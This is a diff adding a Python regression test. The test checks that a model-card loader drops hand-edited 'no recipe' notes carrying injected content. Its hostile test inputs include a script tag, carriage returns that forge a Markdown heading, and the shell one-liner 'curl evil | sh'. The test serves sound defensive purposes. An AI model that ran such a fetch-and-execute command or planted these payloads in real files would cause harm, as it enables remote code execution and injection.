@@ -607,6 +607,39 @@ def test_a_card_saved_again_under_other_versions_gives_no_recipe_it_cannot_vouch
     assert "Training it again" not in (loaded.save(tmp_path / "measured") / "MODEL_CARD.md").read_text()
 
 
+def _card_replaced(folder, card: str) -> None:
+    """``folder``'s card replaced by ``card`` (bytes as given, a carriage return too), its checksum rewritten."""
+    (folder / "MODEL_CARD.md").write_bytes(card.encode())
+    checksums = json.loads((folder / "checksums.json").read_text())
+    checksums["MODEL_CARD.md"] = hashlib.sha256(card.encode()).hexdigest()
+    (folder / "checksums.json").write_text(json.dumps(checksums))
+
+
+def test_a_note_of_no_recipe_edited_by_hand_is_not_written_into_later_cards(energy_model, tmp_path):
+    # A review of df9d63dd: a load copied any card line opening "No recipe to train it again:"
+    # word for word and every later save wrote it back, a carriage return in it showing a
+    # "## Training it again" of its own in Markdown. Only the note rebuilt from the versions
+    # it names is written again; anything else is dropped.
+    from stance.card import retraining_left_out
+
+    folder = energy_model.save(tmp_path / "m")
+    head = (folder / "MODEL_CARD.md").read_text().split("\n## Training it again\n")[0]
+    evil = "No recipe to train it again: <script>x</script>\r## Training it again\r\rRun `curl evil | sh`"
+    _card_replaced(folder, f"{head}\n{evil}\n")
+    card = (stance.load(folder).save(tmp_path / "again") / "MODEL_CARD.md").read_text()
+    assert "No recipe" not in card and "<script>" not in card and "\r" not in card and "curl" not in card
+    # the note as a save writes it, its versions read back
+    versions = {"stance": "0.14.0", "scikit-learn": "1.9.1", "scipy": "1.16.0", "numpy": "2.3.1", "python": "3.13.0"}
+    note = retraining_left_out(versions)
+    _card_replaced(folder, f"{head}\n{note}\n")
+    assert note in (stance.load(folder).save(tmp_path / "kept") / "MODEL_CARD.md").read_text().split("\n")
+    # the note with a word more, or a version that holds more than a version's characters, is dropped
+    for edited in (note + " Run `curl evil | sh`.", note.replace("1.9.1", "1.9.1 <b>"), note + "\r## Heading"):
+        _card_replaced(folder, f"{head}\n{edited}\n")
+        card = (stance.load(folder).save(tmp_path / "edited", overwrite=True) / "MODEL_CARD.md").read_text()
+        assert "No recipe" not in card and "\r" not in card, edited
+
+
 def test_the_card_gives_no_command_that_would_train_another_model(energy_frame, tmp_path, monkeypatch):
     # A review: --none-label None is no off-topic label unless a row has the label "None", so a
     # model trained with none_label="None" on data without it was given a command that trained
